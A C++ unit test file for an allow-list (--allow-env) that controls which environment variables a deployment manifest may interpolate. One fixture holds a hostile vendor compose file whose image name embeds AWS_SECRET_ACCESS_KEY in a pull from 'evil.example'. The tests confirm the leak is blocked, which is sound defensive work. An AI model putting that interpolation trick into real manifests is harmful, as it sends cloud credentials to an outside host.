// ${VAR} reads only the variables the operator allows (--allow-env).
#include "manifest/variable_access.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <map>

#include "manifest/load.hpp"

namespace flocker {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

// What a CI job's environment holds: a secret the manifest must not see.
EnvLookup ci_environment() {
  static const std::map<std::string, std::string> variables = {
      {"TAG", "1"}, {"APP_MODE", "fast"}, {"AWS_SECRET_ACCESS_KEY", "s3cr3t"}};
  return [](const std::string& name) -> std::optional<std::string> {
    auto it = variables.find(name);
    if (it == variables.end()) return std::nullopt;
    return it->second;
  };
}

const char* kVendorCompose = R"(services:
  web:
    image: "evil.example/${AWS_SECRET_ACCESS_KEY:-none}:${TAG}"
    environment:
      MODE: ${APP_MODE:-slow}
)";

const char* kNodes = "nodes:\n  node1: {pool: tank}\ndeployment:\n  node1: [web]\n";

TEST(VariableAccess, TheAllowListTakesNamesCommasAndPrefixes) {
  auto allowed = parse_allowed_variables({"TAG, APP_*", "API_TOKEN"});
  ASSERT_TRUE(allowed) << allowed.error().message;
  EXPECT_EQ(*allowed, (std::set<std::string>{"API_TOKEN", "APP_*", "TAG"}));
  EXPECT_TRUE(variable_allowed(*allowed, "APP_MODE"));
  EXPECT_FALSE(variable_allowed(*allowed, "AWS_SECRET_ACCESS_KEY"));
  EXPECT_FALSE(variable_allowed(*allowed, "TAGS"));
  for (const std::string bad : {"A-B", "*", "1X", "A B", "X*Y", "$HOME"}) {
    auto refused = parse_allowed_variables({bad});
    ASSERT_FALSE(refused) << bad;
    EXPECT_THAT(refused.error().message, HasSubstr("not a variable name")) << bad;
  }
}

TEST(VariableAccess, AVariableNotAllowedLooksUnsetAndTheDefaultIsTaken) {
  auto manifest = parse_manifest({{"nodes.yaml", kNodes}, {"vendor/compose.yml", kVendorCompose}},
                                 allow_only(ci_environment(), {"TAG"}));
  ASSERT_TRUE(manifest) << format_diagnostic(manifest.error().front());
  EXPECT_EQ(manifest->applications.at("web").image, "evil.example/none:1");
  EXPECT_EQ(manifest->applications.at("web").environment.at("MODE"), "slow");
  EXPECT_THAT(manifest->variables.at("vendor/compose.yml"),
              ElementsAre("APP_MODE", "AWS_SECRET_ACCESS_KEY", "TAG"));
  EXPECT_FALSE(manifest->variables.contains("nodes.yaml"));
  EXPECT_THAT(variable_notes(*manifest, {"TAG"}),
              ElementsAre("vendor/compose.yml reads TAG from flocker's environment; asked for APP_MODE, "
                          "AWS_SECRET_ACCESS_KEY, not allowed (--allow-env), so read as unset"));
}

TEST(VariableAccess, AVariableNotAllowedAndWithoutDefaultIsAnErrorThatSaysHowToAllowIt) {
  auto manifest = parse_manifest({{"nodes.yaml", kNodes}, {"vendor/compose.yml", kVendorCompose}},
                                 allow_only(ci_environment(), {}));
  ASSERT_FALSE(manifest);
  ASSERT_EQ(manifest.error().size(), 1u);
  EXPECT_EQ(manifest.error().front().where.file, "vendor/compose.yml");
  EXPECT_EQ(manifest.error().front().where.line, 3);
  EXPECT_THAT(manifest.error().front().message, HasSubstr("environment variable TAG is not set"));
  EXPECT_THAT(manifest.error().front().message, HasSubstr("--allow-env TAG"));
  EXPECT_THAT(manifest.error().front().message, ::testing::Not(HasSubstr("s3cr3t")));
}

TEST(VariableAccess, WhatIsAllowedIsRead) {
  auto manifest = parse_manifest({{"nodes.yaml", kNodes}, {"vendor/compose.yml", kVendorCompose}},
                                 allow_only(ci_environment(), {"TAG", "APP_*"}));
  ASSERT_TRUE(manifest);
  EXPECT_EQ(manifest->applications.at("web").environment.at("MODE"), "fast");
  EXPECT_THAT(variable_notes(*manifest, {"TAG", "APP_*"}),
              ElementsAre("vendor/compose.yml reads APP_MODE, TAG from flocker's environment; asked for "
                          "AWS_SECRET_ACCESS_KEY, not allowed (--allow-env), so read as unset"));
}

}  // namespace
}  // namespace flocker
